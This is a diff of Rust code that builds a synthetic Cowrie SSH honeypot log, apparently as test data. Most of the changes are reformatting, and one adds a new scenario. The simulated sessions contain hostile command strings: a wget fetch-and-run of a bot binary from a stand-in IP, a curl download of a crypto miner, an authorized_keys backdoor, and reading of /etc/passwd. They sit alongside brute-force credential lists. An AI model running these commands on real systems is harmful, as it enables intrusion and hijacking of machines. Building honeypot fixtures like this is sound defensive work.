@@ -76,14 +76,8 @@ impl Log {
         let sensor = SENSORS[self.random.below(2) as usize];
         let now = (START + second as i64) * 1_000_000 + self.random.below(1_000_000) as i64;
         let port = 1024 + self.random.below(64_000);
-        let mut visit = Visit {
-            log: self,
-            now,
-            began: now,
-            id: id.clone(),
-            address: address.to_owned(),
-            sensor,
-        };
+        let mut visit =
+            Visit { log: self, now, began: now, id: id.clone(), address: address.to_owned(), sensor };
         let local = if protocol == "ssh" { 2222 } else { 2223 };
         visit.event(
             "session.connect",
@@ -132,11 +126,8 @@ impl Visit<'_> {
     }
 
     fn login(&mut self, success: bool, username: &str, password: &str) -> &mut Self {
-        let (name, outcome) = if success {
-            ("login.success", "succeeded")
-        } else {
-            ("login.failed", "failed")
-        };
+        let (name, outcome) =
+            if success { ("login.success", "succeeded") } else { ("login.failed", "failed") };
         self.wait(300, 1500).event(
             name,
             json!({"username": username, "password": password,
@@ -146,19 +137,14 @@ impl Visit<'_> {
     }
 
     fn command(&mut self, input: &str) -> &mut Self {
-        self.wait(100, 900).event(
-            "command.input",
-            json!({"input": input, "message": format!("CMD: {input}")}),
-        );
+        self.wait(100, 900)
+            .event("command.input", json!({"input": input, "message": format!("CMD: {input}")}));
         self
     }
 
     fn unknown_command(&mut self, input: &str) -> &mut Self {
         self.wait(100, 900);
-        self.event(
-            "command.input",
-            json!({"input": input, "message": format!("CMD: {input}")}),
-        );
+        self.event("command.input", json!({"input": input, "message": format!("CMD: {input}")}));
         self.event(
             "command.failed",
             json!({"input": input, "message": format!("Command not found: {input}")}),
@@ -205,9 +191,7 @@ fn address_in(random: &mut Random, network: &Network) -> IpAddr {
         // Real hosts cluster at the beginning of an allocation's subnets: one of the first 2^16 /64s.
         IpAddr::V6(first) => {
             let subnet = u128::from(random.below(1 << 16)) << 64;
-            IpAddr::V6(Ipv6Addr::from(
-                u128::from(first) | subnet | u128::from(1 + random.below(0xffff)),
-            ))
+            IpAddr::V6(Ipv6Addr::from(u128::from(first) | subnet | u128::from(1 + random.below(0xffff))))
         }
     }
 }
@@ -217,11 +201,8 @@ fn hosts(random: &mut Random, list: &[Network], words: &[&str], count: usize) ->
     let chosen: Vec<&Network> = list
         .iter()
         .filter(|network| {
-            let organization = network
-                .origin
-                .as_ref()
-                .and_then(|origin| origin.organization.as_deref())
-                .unwrap_or("");
+            let organization =
+                network.origin.as_ref().and_then(|origin| origin.organization.as_deref()).unwrap_or("");
             words.is_empty() || words.iter().any(|word| organization.contains(word))
         })
         .collect();
@@ -276,17 +257,10 @@ const ACCESS: [&str; 22] = [
 ];
 const SCANNERS: [&str; 4] = ["CariNet", "Hurricane", "University of Michigan", "Censys"];
 
-const VERSIONS: [&str; 5] = [
-    "SSH-2.0-Go",
-    "SSH-2.0-libssh2_1.4.3",
-    "SSH-2.0-libssh_0.9.6",
-    "SSH-2.0-PUTTY",
-    "SSH-2.0-OpenSSH_7.4",
-];
-const USERNAMES: [&str; 12] = [
-    "root", "root", "root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "git", "pi",
-    "hadoop",
-];
+const VERSIONS: [&str; 5] =
+    ["SSH-2.0-Go", "SSH-2.0-libssh2_1.4.3", "SSH-2.0-libssh_0.9.6", "SSH-2.0-PUTTY", "SSH-2.0-OpenSSH_7.4"];
+const USERNAMES: [&str; 12] =
+    ["root", "root", "root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "git", "pi", "hadoop"];
 const PASSWORDS: [&str; 14] = [
     "123456",
     "admin",
@@ -306,10 +280,7 @@ const PASSWORDS: [&str; 14] = [
 
 /// The whole log as text, one event a line.
 pub fn cowrie_log(list: &[Network], seed: u64) -> String {
-    let mut log = Log {
-        random: Random(seed),
-        events: Vec::new(),
-    };
+    let mut log = Log { random: Random(seed), events: Vec::new() };
     one_password(&mut log, list);
     authorized_key(&mut log, list);
     botnet_loader(&mut log, list);
@@ -318,6 +289,7 @@ pub fn cowrie_log(list: &[Network], seed: u64) -> String {
     miner(&mut log, list);
     forwarders(&mut log, list);
     a_person(&mut log, list);
+    unknown_networks(&mut log, list);
     moving_host(&mut log);
     nobodys_addresses(&mut log);
     log.write()
@@ -339,20 +311,13 @@ fn one_password(log: &mut Log, list: &[Network]) {
 
 /// Logs in and plants a key: few hosts, the same commands.
 fn authorized_key(log: &mut Log, list: &[Network]) {
-    let bots = hosts(
-        &mut log.random,
-        list,
-        &["Tencent", "Alibaba", "Korea Telecom", "Contabo", "Jio"],
-        12,
-    );
+    let bots = hosts(&mut log.random, list, &["Tencent", "Alibaba", "Korea Telecom", "Contabo", "Jio"], 12);
     let shasum = log.random.hex(64);
     for _ in 0..48 {
         let bot = log.random.one_of(&bots).clone();
         let second = log.random.below(SPAN);
         let mut visit = log.visit(&bot, second, "ssh");
-        visit
-            .version("SSH-2.0-libssh_0.9.6")
-            .login(true, "root", "3245gs5662d34");
+        visit.version("SSH-2.0-libssh_0.9.6").login(true, "root", "3245gs5662d34");
         visit.command("cd ~; chattr -ia .ssh; lockr -ia .ssh");
         visit.command("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAAexample rsa-key\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~");
         visit.event(
@@ -360,10 +325,7 @@ fn authorized_key(log: &mut Log, list: &[Network]) {
             json!({"outfile": format!("var/lib/cowrie/downloads/{shasum}"), "shasum": shasum, "destfile": "/root/.ssh/authorized_keys",
                    "message": "Saved redir contents"}),
         );
-        visit
-            .unknown_command("lockr -ia .ssh")
-            .terminal_log()
-            .close();
+        visit.unknown_command("lockr -ia .ssh").terminal_log().close();
     }
 }
 
@@ -388,10 +350,7 @@ fn botnet_loader(log: &mut Log, list: &[Network]) {
             visit.command(input);
         }
         if loads {
-            visit.event(
-                "session.params",
-                json!({"arch": "linux-x64-lsb", "message": []}),
-            );
+            visit.event("session.params", json!({"arch": "linux-x64-lsb", "message": []}));
             let url = format!("http://198.51.100.23/bins/{arch}");
             visit.command(&format!("cd /tmp; wget {url} -O .x; chmod +x .x; ./.x"));
             visit.download(&url, &shasum);
@@ -411,9 +370,7 @@ fn scanners(log: &mut Log, list: &[Network]) {
     for _ in 0..70 {
         let address = log.random.one_of(&addresses).clone();
         let second = log.random.below(SPAN);
-        log.visit(&address, second, "ssh")
-            .version("SSH-2.0-Go")
-            .close();
+        log.visit(&address, second, "ssh").version("SSH-2.0-Go").close();
     }
 }
 
@@ -425,14 +382,8 @@ fn guessers(log: &mut Log, list: &[Network]) {
         let second = log.random.below(SPAN);
         let version = *log.random.one_of(&VERSIONS);
         let tries = 1 + log.random.below(4);
-        let guesses: Vec<(&str, &str)> = (0..tries)
-            .map(|_| {
-                (
-                    *log.random.one_of(&USERNAMES),
-                    *log.random.one_of(&PASSWORDS),
-                )
-            })
-            .collect();
+        let guesses: Vec<(&str, &str)> =
+            (0..tries).map(|_| (*log.random.one_of(&USERNAMES), *log.random.one_of(&PASSWORDS))).collect();
         let mut visit = log.visit(&address, second, "ssh");
         visit.version(version);
         for (username, password) in guesses {
@@ -444,55 +395,30 @@ fn guessers(log: &mut Log, list: &[Network]) {
 
 /// Looks at the machine, then fetches a miner.
 fn miner(log: &mut Log, list: &[Network]) {
-    let addresses = hosts(
-        &mut log.random,
-        list,
-        &["Hetzner", "OVH", "Vimpelcom", "LeaseWeb"],
-        6,
-    );
+    let addresses = hosts(&mut log.random, list, &["Hetzner", "OVH", "Vimpelcom", "LeaseWeb"], 6);
     let shasum = log.random.hex(64);
     for _ in 0..24 {
         let address = log.random.one_of(&addresses).clone();
         let second = log.random.below(SPAN);
         let mut visit = log.visit(&address, second, "ssh");
-        visit
-            .version("SSH-2.0-PUTTY")
-            .login(false, "root", "admin")
-            .login(true, "root", "1qaz2wsx");
-        visit
-            .command("uname -a")
-            .command("nproc")
-            .command("cat /proc/cpuinfo | grep name | wc -l");
+        visit.version("SSH-2.0-PUTTY").login(false, "root", "admin").login(true, "root", "1qaz2wsx");
+        visit.command("uname -a").command("nproc").command("cat /proc/cpuinfo | grep name | wc -l");
         visit.command("curl -s http://files.example/xmrig.tar.gz -o /tmp/.x.tgz");
-        visit
-            .download("http://files.example/xmrig.tar.gz", &shasum)
-            .terminal_log()
-            .close();
+        visit.download("http://files.example/xmrig.tar.gz", &shasum).terminal_log().close();
     }
 }
 
 /// Uses the login as a proxy.
 fn forwarders(log: &mut Log, list: &[Network]) {
-    let addresses = hosts(
-        &mut log.random,
-        list,
-        &["M247", "Rostelecom", "LeaseWeb", "Telia"],
-        4,
-    );
+    let addresses = hosts(&mut log.random, list, &["M247", "Rostelecom", "LeaseWeb", "Telia"], 4);
     for _ in 0..22 {
         let address = log.random.one_of(&addresses).clone();
         let second = log.random.below(SPAN);
         let mut visit = log.visit(&address, second, "ssh");
-        visit
-            .version("SSH-2.0-libssh2_1.4.3")
-            .login(true, "admin", "admin");
+        visit.version("SSH-2.0-libssh2_1.4.3").login(true, "admin", "admin");
         for (host, port, data) in [
             ("mail.example", 25, "EHLO example.org\r\n"),
-            (
-                "192.0.2.80",
-                80,
-                "GET / HTTP/1.1\r\nHost: www.example\r\n\r\n",
-            ),
+            ("192.0.2.80", 80, "GET / HTTP/1.1\r\nHost: www.example\r\n\r\n"),
         ] {
             visit.wait(100, 500).event(
                 "direct-tcpip.request",
@@ -514,14 +440,12 @@ fn a_person(log: &mut Log, list: &[Network]) {
         let fingerprint = "SHA256:examplefingerprintexamplefingerprintexample";
         let mut visit = log.visit(&address, day * 86_400 + 71_000, "ssh");
         visit.version("SSH-2.0-OpenSSH_9.6");
-        visit.event("client.fingerprint", json!({"username": "root", "fingerprint": fingerprint, "message": "public key attempt"}));
-        visit
-            .login(false, "root", "hunter2")
-            .login(true, "root", "letmein");
         visit.event(
-            "client.size",
-            json!({"width": 180, "height": 48, "message": "Terminal Size: 180 48"}),
+            "client.fingerprint",
+            json!({"username": "root", "fingerprint": fingerprint, "message": "public key attempt"}),
         );
+        visit.login(false, "root", "hunter2").login(true, "root", "letmein");
+        visit.event("client.size", json!({"width": 180, "height": 48, "message": "Terminal Size: 180 48"}));
         visit.wait(2000, 9000);
         visit
             .command("w")
@@ -530,6 +454,20 @@ fn a_person(log: &mut Log, list: &[Network]) {
             .command("cat /etc/passwd")
             .command("exit");
         visit.terminal_log().close();
+    }
+}
+
+/// From the places whose network the list does not know: what an enrichment has to ask others for.
+fn unknown_networks(log: &mut Log, list: &[Network]) {
+    let unknown: Vec<&Network> = list.iter().filter(|network| network.origin.is_none()).collect();
+    for _ in 0..9 {
+        let network = *log.random.one_of(&unknown);
+        let address = address_in(&mut log.random, network).to_string();
+        for _ in 0..2 {
+            let second = log.random.below(SPAN);
+            let mut visit = log.visit(&address, second, "ssh");
+            visit.version("SSH-2.0-libssh_0.9.6").login(false, "root", "toor").close();
+        }
     }
 }
 
@@ -575,10 +513,7 @@ fn nobodys_addresses(log: &mut Log) {
     for source in sources {
         for _ in 0..2 {
             let second = log.random.below(SPAN);
-            log.visit(source, second, "ssh")
-                .version("SSH-2.0-Go")
-                .login(false, "root", "123456")
-                .close();
+            log.visit(source, second, "ssh").version("SSH-2.0-Go").login(false, "root", "123456").close();
         }
     }
 }
